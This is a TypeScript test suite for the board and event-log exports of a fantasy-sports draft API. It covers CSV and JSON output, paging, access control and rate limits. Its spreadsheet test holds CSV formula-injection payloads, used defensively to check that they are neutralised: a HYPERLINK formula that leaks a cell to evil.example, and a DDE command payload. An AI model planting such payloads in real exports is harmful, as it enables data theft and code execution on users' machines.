import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvLine } from '../../src/api/exports/csv.ts';
import { csvOf, inTurns, jsonOf } from '../../src/api/exports/pieces.ts';
import { readBoardExport } from '../../src/database/exports.ts';
import { createUser } from '../../src/database/leagues.ts';
import { applyPick, skipPick } from '../../src/database/picks.ts';
import { startApi, tokenFor } from '../support/api.ts';
import { newDraft, type TestDraft } from '../support/drafts.ts';
import { testService } from '../support/service.ts';

const { database, api } = testService();

const HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Ann")';

async function exported(draftId: string, file: string, token?: string, method = 'GET', url = api.url) {
  const headers = token === undefined ? {} : { authorization: `Bearer ${token}` };
  const response = await fetch(`${url}/drafts/${draftId}/${file}`, { headers, method });
  return { status: response.status, headers: response.headers, text: await response.text() };
}

async function pick({ draftId, players, commissioner }: TestDraft, pickNumber: number): Promise<void> {
  const playerId = players[pickNumber - 1] ?? 0;
  await applyPick(database.pool, { kind: 'MANUAL', draftId, pickNumber, playerId, actor: commissioner });
}

function userIdOf({ commissioner }: TestDraft): string {
  return commissioner.kind === 'CLOCK' ? '' : (commissioner.userId ?? '');
}

async function played(): Promise<TestDraft> {
  const draft = await newDraft(database.pool, { teams: 2, rounds: 2 });
  await pick(draft, 1);
  await skipPick(database.pool, draft.draftId, 2, draft.commissioner);
  return draft;
}

describe('the exports of a draft', () => {
  it('are its board as CSV and JSON, and its events line by line', async () => {
    const draft = await played();
    const { draftId, players, teamIds } = draft;
    const csv = await exported(draftId, 'board.csv');
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(csv.headers.get('content-disposition')).toBe('attachment; filename="League-board.csv"');
    const rows: Record<string, string>[] = parse(csv.text, { columns: true, bom: true });
    expect(rows).toHaveLength(4);
    expect(rows[0]).toMatchObject({
      pick: '1',
      round: '1',
      slot: '1',
      team: 'Team 1',
      player: 'Player 1',
      source: 'COMMISSIONER',
      skipped: 'false',
    });
    expect(rows[1]).toMatchObject({ pick: '2', team: 'Team 2', player: '', skipped: 'true' });
    const json = JSON.parse((await exported(draftId.toUpperCase(), 'board.json')).text);
    expect(json).toMatchObject({
      draftId,
      leagueName: 'League',
      draftName: null,
      state: 'IN_PROGRESS',
      version: 4,
    });
    expect(json.cells).toMatchObject([
      {
        pickNumber: 1,
        teamId: teamIds[0],
        playerId: String(players[0]),
        playerName: 'Player 1',
        isSkipped: false,
      },
      { pickNumber: 2, teamId: teamIds[1], playerId: null, isSkipped: true },
      { pickNumber: 3, playerId: null },
      { pickNumber: 4, playerId: null },
    ]);
    const lines = (await exported(draftId, 'events.ndjson')).text
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(lines.map(({ version, kind }) => [version, kind])).toEqual([
      [1, 'CREATED'],
      [2, 'OPENED'],
      [3, 'PICKED'],
      [4, 'SKIPPED'],
    ]);
    expect(lines[2]).toMatchObject({ draftId, format: 1, data: { playerId: players[0] } });
  });

  it('are whole where they are longer than a page, and empty before the draft opens', async () => {
    const draft = await newDraft(database.pool, { teams: 20, rounds: 60, poolSize: 1_200 });
    await database.pool.query(
      `with more as (
         insert into app_public.draft_events (draft_id, version, at, kind, data)
         select $1, 2 + n, clock_timestamp(), 'MANAGER_CHANGED', '{}' from generate_series(1, 1300) n returning 1
       ) update app_public.drafts set version = 1302 where id = $1`,
      [draft.draftId],
    );
    const json = JSON.parse((await exported(draft.draftId, 'board.json')).text);
    expect(json.cells.map(({ pickNumber }: { pickNumber: number }) => pickNumber)).toEqual(
      Array.from({ length: 1_200 }, (_, index) => index + 1),
    );
    const lines = (await exported(draft.draftId, 'events.ndjson')).text.trimEnd().split('\n');
    expect(lines.map((line) => JSON.parse(line).version)).toEqual(
      Array.from({ length: 1_302 }, (_, index) => index + 1),
    );
    const { draftId } = await newDraft(database.pool, { open: false });
    expect((await exported(draftId, 'board.csv')).text.trimEnd().split('\r\n')).toHaveLength(1);
    expect(JSON.parse((await exported(draftId, 'board.json')).text)).toMatchObject({
      state: 'SCHEDULED',
      cells: [],
    });
  });

  it('are made of 500 cells at a time, each piece when it is its turn', async () => {
    const draft = await newDraft(database.pool, { teams: 20, rounds: 60, poolSize: 1_200 });
    for (const [write, newCell] of [
      [csvOf, '\r\n'],
      [jsonOf, '"pickNumber":'],
    ] as const) {
      const board = await readBoardExport(database.pool, draft.draftId);
      if (!board) throw new Error('There is no board');
      const seen: (string | number)[] = [];
      const turn = async () => void seen.push('turn');
      for await (const piece of inTurns(write(board), turn)) seen.push(piece.split(newCell).length - 1);
      const made = seen.filter((each) => each !== 'turn');
      expect(made.filter((cells) => Number(cells) > 1)).toEqual([500, 500, 200]);
      expect(seen).toEqual([...made.flatMap((cells) => ['turn', cells]), 'turn']);
    }
  });

  it('run nothing in a spreadsheet, whatever somebody is called', async () => {
    const draft = await played();
    await database.pool.query('update app_public.teams set name = $2 where id = $1', [
      draft.teamIds[0],
      HOSTILE,
    ]);
    await database.pool.query('update app_public.players set name = $2 where id = $1', [
      draft.players[0],
      "@SUM(1+1)*cmd|' /C calc'!A0",
    ]);
    const [row]: Record<string, string>[] = parse((await exported(draft.draftId, 'board.csv')).text, {
      columns: true,
      bom: true,
    });
    expect(row).toMatchObject({ team: `'${HOSTILE}`, player: "'@SUM(1+1)*cmd|' /C calc'!A0" });
    const json = JSON.parse((await exported(draft.draftId, 'board.json')).text);
    expect(json.cells[0].teamName).toBe(HOSTILE);
  });

  it.each([
    '=1',
    '+1',
    '-1',
    '@a',
    '|x',
    '%x',
    '\t=1',
    '\r=1',
    ' =1',
    '\u200b=1',
    '＝1',
    '＋1',
    '－1',
    '＠a',
  ])('take %j for text', (text) => {
    expect(csvLine([text])).toBe(`"'${text}"\r\n`);
  });

  it('keep every other text as it is', () => {
    const texts = ['Ann', "O'Neil", 'a=b', 'a "b"', 'two\nlines', 'x,y', '', 'Zoë 🏈', '12'];
    expect(parse(csvLine([...texts, null, 7, true, ['RB', 'WR']]))).toEqual([
      [...texts, '', '7', 'true', 'RB/WR'],
    ]);
  });

  it('are for whoever may watch the draft, and for nobody else', async () => {
    const draft = await played();
    await database.pool.query(`update app_public.drafts set visibility = 'PRIVATE' where id = $1`, [
      draft.draftId,
    ]);
    const mine = await tokenFor(userIdOf(draft));
    const stranger = await tokenFor(await createUser(database.pool, 'Stranger'));
    for (const file of ['board.csv', 'board.json', 'events.ndjson']) {
      expect((await exported(draft.draftId, file, mine)).status).toBe(200);
      for (const token of [undefined, stranger]) {
        const { status, text } = await exported(draft.draftId, file, token);
        expect([status, JSON.parse(text).errors[0].extensions.code]).toEqual([404, 'DRAFT_NOT_FOUND']);
      }
      expect((await exported(draft.draftId, file, 'forged')).status).toBe(401);
      expect((await exported('not-an-id', file)).status).toBe(400);
      expect((await exported(draft.draftId, file, mine, 'POST')).status).toBe(405);
    }
    expect((await exported(draft.draftId, 'board.exe')).status).toBe(404);
  });

  it('are paid for like queries: whoever has spent their budget waits', async () => {
    const { draftId } = await played();
    const strict = await startApi(database.url, { WORK_PER_PERSON: '1', WORK_PER_ADDRESS: '1' });
    const statuses: number[] = [];
    for (let tries = 0; tries < 20 && statuses.at(-1) !== 429; tries += 1)
      statuses.push((await exported(draftId, 'board.json', undefined, 'GET', strict.url)).status);
    expect(statuses[0]).toBe(200);
    expect(statuses.at(-1)).toBe(429);
    strict.program.child.kill('SIGTERM');
    expect(await strict.program.ended()).toBe(0);
  });
});
